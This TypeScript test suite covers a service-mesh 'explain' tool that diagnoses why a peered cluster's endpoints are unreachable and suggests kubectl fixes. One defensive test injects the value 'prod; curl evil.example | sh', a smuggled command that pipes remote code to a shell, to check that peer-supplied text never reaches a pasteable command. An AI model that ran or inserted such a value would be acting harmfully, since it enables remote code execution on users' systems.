import assert from "node:assert/strict";
import fc from "fast-check";
import { test } from "mocha";
import { MeshError } from "../../src/errors.ts";
import { networkId } from "../../src/names.ts";
import type { ExplainFacts } from "../../src/explain/explanation.ts";
import type { KubeObject } from "../../src/kube/object.ts";
import { object, serviceEntry } from "../registry/mesh.ts";
import { facts, federated, peered, peerGateway, recordKey, status, type PeeredMesh } from "../registry/peers.ts";
import { cart, cartPod, eastWest, system, unready } from "../registry/two-networks.ts";
import { about, explained, reader } from "./explained.ts";

const HOST = "cart.shop.mesh.internal";
const SHARED = { labels: { "solo.io/service-scope": "global" } };
const GATEWAY = "Gateway istio-eastwest/istio-remote-peer-west";

const segment = (name: string, domain: string): KubeObject =>
  object("admin.solo.io/v1alpha1", "Segment", { name, namespace: "istio-system" }, { spec: { domain } });
const grant = (name: string, spec: object, labels = {}): KubeObject =>
  object("peering.causeway.dev/v1alpha1", "PeerGrant", { name, namespace: "istio-system", labels }, { spec });
const bound = (name: string, spec: object): KubeObject => grant(name, spec, { "trust.causeway.dev/bound": "true" });

interface Case {
  readonly reason: string;
  readonly change: (mesh: PeeredMesh) => void;
  readonly host?: string;
  readonly object: string;
  /** Whose object it is. */
  readonly at: "east" | "west";
  readonly field: string;
  readonly fix: RegExp;
  readonly message?: RegExp;
}

/** Of a mesh where west adds three endpoints to a name, each changes one thing. */
const cases: readonly Case[] = [
  {
    reason: "not exported",
    change: (mesh) => mesh.unhear(federated("west")),
    object: "Service shop/cart",
    at: "west",
    field: "metadata.labels[solo.io/service-scope]",
    fix: /causeway explain cart\.shop --context west; .*kubectl --context west -n shop label service cart solo\.io\/service-scope=global/,
    message: /only that cluster knows/,
  },
  {
    reason: "no ready pods",
    change: (mesh) => mesh.hear(federated("west", { ready: 0 })),
    object: "Service shop/cart",
    at: "west",
    field: "spec.selector",
    fix: /kubectl --context west -n shop get service,endpointslices,pods/,
    message: /4 endpoints, and none is ready/,
  },
  {
    reason: "withdrawn",
    change: (mesh) => mesh.hear(federated("west", { ready: 0, withdrawnUntilMs: 65_000 })),
    object: "Service shop/cart",
    at: "west",
    field: "metadata.labels[solo.io/service-scope]",
    fix: /causeway explain cart\.shop --context west/,
    message: /its endpoints are held until 1970-01-01T00:01:05Z/,
  },
  {
    reason: "segment differs",
    change: (mesh) => {
      mesh.apply(segment("prod", "prod.example"));
      mesh.learn(facts("west", { segment: "prod", domain: "prod.example" }));
      mesh.hear(federated("west", { scope: "segment", segment: "prod" }));
    },
    object: "Namespace istio-system",
    at: "east",
    field: "metadata.labels[admin.solo.io/segment]",
    fix: /kubectl --context east label namespace istio-system admin\.solo\.io\/segment=prod/,
  },
  {
    reason: "never synced",
    change: (mesh) => {
      mesh.unhear(federated("west"));
      mesh.report(
        status("west", {
          ...{ state: "connecting", everSynced: false, reason: "ConnectionRefused" },
          message: "192.0.2.1 port 15012: nothing listens there.",
        }),
      );
    },
    object: GATEWAY,
    at: "east",
    field: "spec.addresses",
    fix: /have cluster west's east-west gateway run and answer on port 15012/,
    message: /192\.0\.2\.1 port 15012: nothing listens there/,
  },
  {
    reason: "never synced",
    change: (mesh) => {
      mesh.unhear(federated("west"));
      mesh.report(status("west", { state: "connecting", everSynced: false, reason: "TLSUnknownAuthority" }));
    },
    object: GATEWAY,
    at: "east",
    field: "",
    fix: /authorities under one root \(causeway ca verify/,
  },
  {
    reason: "peer stale",
    change: (mesh) =>
      mesh.report(status("west", { state: "stale", staleness: "within-grace", dataPlane: "closed", reason: "Stale" })),
    object: GATEWAY,
    at: "east",
    field: "spec.addresses",
    fix: /answer on port 15012 from here, or correct the address/,
    message: /link to cluster west is down/,
  },
  {
    reason: "SAN refused",
    change: (mesh) => {
      mesh.unhear(federated("west"));
      const message =
        "it names the identity spiffe://west.example/ns/shop/sa/cart, and the Gateway has trust domain cluster.local";
      mesh.registry.peers.denied.set(recordKey("west"), { reason: "trust-domain", message });
      mesh.graph.flush();
    },
    object: GATEWAY,
    at: "east",
    field: "metadata.annotations[gateway.istio.io/trust-domain]",
    fix: /annotate gateway istio-remote-peer-west gateway\.istio\.io\/trust-domain=west\.example/,
    message: /spiffe:\/\/west\.example\/ns\/shop\/sa\/cart/,
  },
  {
    reason: "SAN refused",
    change: (mesh) => mesh.hear(federated("west", { identities: ["spiffe://other.example/ns/shop/sa/cart"] })),
    object: GATEWAY,
    at: "east",
    field: "metadata.annotations[gateway.istio.io/trust-domain]",
    fix: /gateway\.istio\.io\/trust-domain=other\.example/,
  },
  {
    reason: "import denied",
    change: (mesh) => {
      mesh.unhear(federated("west"));
      mesh.apply(grant("west", { cluster: "west", import: { namespaces: ["partners"] } }));
      const message = "no PeerGrant has west import service cart of namespace shop";
      mesh.registry.peers.denied.set(recordKey("west"), { reason: "namespace", message });
      mesh.graph.flush();
    },
    object: "PeerGrant istio-system/west",
    at: "east",
    field: "spec.import",
    fix: /import: \{namespaces: \[shop\], services: \[cart\]\}.*kubectl --context east -n istio-system edit peergrant west/,
  },
  {
    reason: "import denied",
    change: (mesh) => {
      mesh.unhear(federated("west"));
      mesh.apply(grant("west", { cluster: "west", import: { namespaces: ["shop"] } }));
      mesh.apply(bound("bound-west", { cluster: "west", import: { namespaces: ["partners"] } }));
      const message = "no Workspace has west import service cart of namespace shop";
      mesh.registry.peers.denied.set(recordKey("west"), { reason: "workspace", message });
      mesh.graph.flush();
    },
    object: "PeerGrant istio-system/bound-west",
    at: "east",
    field: "spec.import",
    fix: /where the trust manager is.* namespace shop of cluster west and a namespace of cluster east, or export Service cart/,
    message: /no Workspace has west import service cart of namespace shop/,
  },
  {
    reason: "port mismatch",
    change: () => undefined,
    host: `${HOST}:8080`,
    object: "Service shop/cart",
    at: "west",
    field: "spec.ports",
    fix: /ports: \[\{port: 8080/,
    message: /has the ports 80, and not 8080/,
  },
  {
    reason: "network mismatch",
    change: (mesh) => {
      mesh.apply(peerGateway("west", { network: "net1" }));
      mesh.learn(facts("west", { network: networkId("net9") }));
    },
    object: GATEWAY,
    at: "east",
    field: "metadata.labels[topology.istio.io/network]",
    fix: /label gateway istio-remote-peer-west topology\.istio\.io\/network=net9/,
  },
  {
    reason: "no door",
    change: (mesh) =>
      mesh.apply(
        peerGateway("west", { annotations: { "peering.solo.io/preferred-data-plane-service-type": "nodeport" } }),
      ),
    object: GATEWAY,
    at: "east",
    field: "metadata.annotations[peering.solo.io/preferred-data-plane-service-type]",
    fix: /data-plane-service-type=nodeport, or drop the preference here: kubectl/,
  },
  {
    reason: "no link",
    change: (mesh) => mesh.apply(peerGateway("west", { addresses: [] })),
    object: GATEWAY,
    at: "east",
    field: "spec.addresses",
    fix: /addresses: \[\{type: IPAddress/,
    message: /has no address/,
  },
  {
    reason: "other name",
    change: (mesh) => {
      mesh.apply(segment("prod", "prod.example"));
      mesh.learn(facts("west", { segment: "prod", domain: "prod.example" }));
    },
    object: "Service shop/cart",
    at: "west",
    field: "",
    fix: /call cart\.shop\.prod\.example, or have both clusters in one segment/,
  },
  {
    reason: "reserved domain",
    change: (mesh) => mesh.learn(facts("west", { segment: "prod", domain: "prod.example" })),
    object: "Segment istio-system/prod",
    at: "east",
    field: "spec.domain",
    fix: /kubectl --context west -n istio-system get segment prod -o yaml \| kubectl --context east apply -f -/,
    message: /no Segment of that name has it here/,
  },
  {
    reason: "name taken",
    change: (mesh) => {
      const spec = { hosts: [HOST], ports: [{ number: 80, name: "http" }], resolution: "STATIC" };
      mesh.apply(serviceEntry("mine", spec, { creationTimestamp: "1970-01-01T00:00:00Z" }));
    },
    object: "ServiceEntry shop/mine",
    at: "east",
    field: "spec.hosts",
    fix: /kubectl --context east -n shop delete serviceentry mine/,
  },
];

for (const { reason, change, host = HOST, object, at, field, fix, message = /./ } of cases)
  test(`explain names the cause "${reason}" of a peer without endpoints (${fix.source.slice(0, 40)}), where it is written, and what mends it`, () => {
    const mesh = peered();
    mesh.hear(federated("west"));
    const whole = explained(mesh.registry, HOST);
    assert.deepEqual([about(whole, "west")?.cause, whole.reachable], [undefined, 3]);
    change(mesh);
    const { contributions, reachable, answer } = explained(mesh.registry, host);
    const { cause } = contributions.find(({ cluster }) => cluster === "west")!;
    assert.deepEqual(
      [cause?.reason, cause?.object, cause?.cluster, cause?.field, reachable],
      [reason, object, at, field, 0],
    );
    assert.match(cause!.fix, fix);
    assert.match(cause!.message, message);
    assert.match(answer, new RegExp(`west: ${reason}`));
    const manifests = new Map([["east", { folder: "demo/east" }]]);
    const written = about(explained(mesh.registry, host, { manifests }), "west")?.cause?.fix ?? "";
    assert.doesNotMatch(written, /kubectl/, "there is no API server where clusters are folders");
  });

test("a cluster behind a remote secret says what it lacks, too, and of one that is a peer the secret is to go", () => {
  const mesh = peered([]);
  mesh.applyTo("west", system("net-west"), cart("10.3.0.1", {}, SHARED), cartPod("n", "10.9.0.1"));
  const door = about(explained(mesh.registry, HOST), "west")?.cause;
  assert.deepEqual(
    [door?.reason, door?.object, door?.cluster],
    ["no door", "Gateway of class istio-east-west", "west"],
  );
  mesh.applyTo("west", eastWest("net-west", ["198.51.100.1"]));
  assert.deepEqual(about(explained(mesh.registry, HOST), "west")?.through, [
    "east-west gateway 198.51.100.1 port 15008 of network net-west",
  ]);
  mesh.apply(peerGateway("west"));
  mesh.learn(facts("west"));
  mesh.report(status("west"));
  mesh.hear(federated("west"));
  const secret = about(explained(mesh.registry, HOST), "west", "secret")?.cause;
  assert.equal(secret?.reason, "shadowed");
  assert.match(
    secret!.fix,
    /^kubectl --context east -n istio-system delete secret istio-remote-secret-west, or whichever/,
  );
});

test("a peer that reads us and that we do not read is no link, and the missing Gateway is the fix", () => {
  const mesh = peered([]);
  mesh.apply(cart("10.1.0.1", {}, SHARED), cartPod("a", "10.0.0.1"));
  const { contributions } = explained(mesh.registry, HOST, { readers: [reader("west")] });
  const { cause, link } = contributions.find(({ cluster }) => cluster === "west")!;
  assert.deepEqual([cause?.reason, cause?.cluster, link], ["no link", "east", "none"]);
  assert.match(
    cause!.fix,
    /create one in cluster east that leads to west: its labels topology\.istio\.io\/cluster: west/,
  );
});

test("a Gateway that names no cluster, and a way in that is closed, are said beside the causes", () => {
  const mesh = peered();
  mesh.hear(federated("west"));
  mesh.report(status("west", { dataPlane: "closed" }));
  mesh.apply(peerGateway("north", { network: "", labels: { "topology.istio.io/cluster": "" } }));
  const { warnings, reachable } = explained(mesh.registry, HOST);
  assert.equal(reachable, 3);
  const [door, link] = ["door closed", "no link"].map((reason) => warnings.find((each) => each.reason === reason));
  assert.match(door!.message, /way in for traffic takes no connections from here: east-west gateway 192\.0\.2\.1/);
  assert.deepEqual(
    [link?.object, link?.field],
    ["Gateway istio-eastwest/istio-remote-peer-north", "metadata.labels[topology.istio.io/network]"],
  );
});

test("a call by the cluster's own name is the trap that it is, with both ways out", () => {
  const mesh = peered(["west"], [cart("10.1.0.1", {}, SHARED), cartPod("a", "10.0.0.1")]);
  mesh.hear(federated("west"));
  const { name, warnings, contributions, reachable } = explained(mesh.registry, "cart.shop.svc.cluster.local");
  assert.deepEqual([name.kind, reachable], ["local", 1]);
  const cause = contributions.find(({ cluster }) => cluster === "west")?.cause;
  assert.equal(cause?.reason, "other name");
  const trap = warnings.find(({ reason }) => reason === "local name");
  assert.match(trap!.message, /No endpoint of another cluster can be reached through cart\.shop\.svc\.cluster\.local/);
  assert.match(trap!.fix, /call cart\.shop\.mesh\.internal; or .*solo\.io\/service-takeover=true/);
});

test("a name that was taken over leads to all clusters, and is no trap", () => {
  const both = { labels: { ...SHARED.labels, "solo.io/service-takeover": "true" } };
  const mesh = peered(["west"], [cart("10.1.0.1", {}, both), cartPod("a", "10.0.0.1")]);
  mesh.hear(federated("west"));
  const { name, warnings, reachable } = explained(mesh.registry, "cart.shop.svc");
  assert.deepEqual([name.kind, name.host, reachable], ["taken over", "cart.shop.svc.cluster.local", 4]);
  assert.deepEqual(
    warnings.filter(({ reason }) => reason === "local name"),
    [],
  );
});

test("what is no host is refused with what one looks like", () => {
  const { registry } = peered();
  for (const host of ["", "cart", "cart.shop:0", "cart.shop:70000", "a b.c", "-a.b"])
    assert.throws(() => explained(registry, host), /is no host: give one as cart\.shop\.mesh\.internal/);
  assert.equal(explained(registry, "Cart.Shop.mesh.internal.").name.host, "cart.shop.mesh.internal");
});

test("endpoints that are not ready count where the Service publishes them", () => {
  const published = cart("10.1.0.1", { publishNotReadyAddresses: true }, SHARED);
  const { contributions, reachable } = explained(
    peered([], [published, unready(cartPod("a", "10.0.0.1"))]).registry,
    HOST,
  );
  assert.deepEqual([contributions[0]?.cause, reachable], [undefined, 1]);
});

test("a host of a ServiceEntry is its own, and no cluster is asked why it has no Service of such a name", () => {
  const entry = (name: string, spec: object) =>
    serviceEntry(name, { hosts: [`${name}.example.com`], ports: [{ number: 80, name: "http" }], ...spec });
  const endpoints = [{ address: "10.7.0.1" }];
  const mesh = peered(
    ["west"],
    [
      entry("api", { resolution: "STATIC", endpoints }),
      entry("bare", { resolution: "STATIC" }),
      entry("any", { resolution: "NONE" }),
    ],
  );
  const api = explained(mesh.registry, "api.example.com");
  assert.deepEqual([api.name.kind, api.contributions.length, api.reachable], ["other", 1, 1]);
  const bare = explained(mesh.registry, "bare.example.com").contributions[0]?.cause;
  assert.deepEqual([bare?.object, bare?.field], ["ServiceEntry shop/bare", "spec.endpoints"]);
  assert.equal(
    explained(mesh.registry, "any.example.com").answer,
    "any.example.com leads to the address that the caller has.",
  );
});

test("a name that nobody knows is met with the one that was probably meant", () => {
  const mesh = peered();
  mesh.hear(federated("west"));
  const { answer, name } = explained(mesh.registry, "carts.shop.mesh.internal");
  assert.equal(name.kind, "unknown");
  assert.match(
    answer,
    /^Nobody here knows carts\.shop\.mesh\.internal \(.*\)\. Was cart\.shop\.mesh\.internal meant\?$/,
  );
});

test("nothing that a peer wrote stands in a command that somebody may paste", () => {
  const evil = "prod; curl evil.example | sh";
  const mesh = peered();
  mesh.learn(facts("west", { segment: evil }));
  mesh.hear(federated("west", { scope: "segment", segment: evil }));
  const segments = about(explained(mesh.registry, HOST), "west")?.cause;
  assert.equal(segments?.reason, "segment differs");
  assert.match(segments!.fix, /admin\.solo\.io\/segment=<segment of the peer>/);
  mesh.apply(peerGateway("west", { network: "net1" }));
  mesh.learn(facts("west", { network: networkId(evil) }));
  mesh.hear(federated("west"));
  const network = about(explained(mesh.registry, HOST), "west")?.cause;
  assert.equal(network?.reason, "network mismatch");
  assert.match(network!.fix, /topology\.istio\.io\/network=<network of the peer>/);
});

test("what a cluster says of itself and is not believed names the label that is wrong, and the value that it says", () => {
  const mesh = peered([]);
  mesh.apply(peerGateway("west"));
  mesh.report(status("west", { reason: "ResourceRejected", everSynced: true }));
  mesh.hear(federated("west"));
  const denials = [
    { name: "west", reason: "network", message: "it says network real-net, and the Gateway's label says net-west" },
  ] as const;
  const peers = [{ cluster: "west", denials, ageMs: 0 }] as unknown as ExplainFacts["peers"];
  const cause = about(explained(mesh.registry, HOST, { peers }), "west")?.cause;
  assert.deepEqual([cause?.reason, cause?.object], ["network mismatch", GATEWAY]);
  assert.match(cause!.fix, /topology\.istio\.io\/network=real-net/);
});

test("any text is answered or refused in a sentence, whatever state peers are in", () => {
  const states = ["connecting", "syncing", "live", "stale"] as const;
  const stale = ["fresh", "within-grace", "retain", "unhealthy", "remove"] as const;
  const mesh = peered(["west"], [cart("10.1.0.1", {}, SHARED)]);
  mesh.hear(federated("west"));
  const host = fc.oneof(fc.string(), fc.domain(), fc.constantFrom(HOST, `${HOST}:80`, "cart.shop", "cart.shop.svc"));
  fc.assert(
    fc.property(
      host,
      fc.constantFrom(...states),
      fc.constantFrom(...stale),
      fc.boolean(),
      (text, state, staleness, everSynced) => {
        mesh.report(status("west", { state, staleness, everSynced }));
        try {
          const { contributions, answer } = explained(mesh.registry, text);
          for (const { cause } of contributions)
            assert.ok(cause === undefined || (cause.fix !== "" && cause.object !== ""));
          assert.match(answer, /\.$|\?$/);
        } catch (thrown) {
          assert.ok(thrown instanceof MeshError, String(thrown));
        }
      },
    ),
    { numRuns: 300 },
  );
});
